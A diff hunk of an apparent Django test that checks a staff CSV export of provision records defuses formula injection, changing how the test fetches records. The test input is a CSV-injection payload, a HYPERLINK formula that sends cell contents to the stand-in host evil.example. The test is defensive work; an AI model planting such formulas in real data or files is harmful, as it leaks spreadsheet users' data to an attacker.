@@ -116,8 +116,9 @@ def test_csv_injection_staff_provision_records_csv_defuses_a_formula_billing_nam
     hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open record")'
     order = buy(BuyerFactory(), DatasetFactory(version__photos=1), billing_name=hyperlink)
     commerce_services.order_mark_paid(order=order, provider="bank_transfer", amount=order.total)
-    record = ProvisionRecord.objects.get(order_line__order=order)
-    assert record.recipient_name == hyperlink  # stored as the buyer typed it
+    records = list(ProvisionRecord.objects.filter(order_line__order=order).order_by("pk"))
+    assert records and {r.recipient_name for r in records} == {hyperlink}  # stored as the buyer typed it
+    record = records[0]
     client.force_login(StaffFactory())
     response = client.get(reverse("licensing:provision_records"), {"subject": record.subject_id, "format": "csv"})
     rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
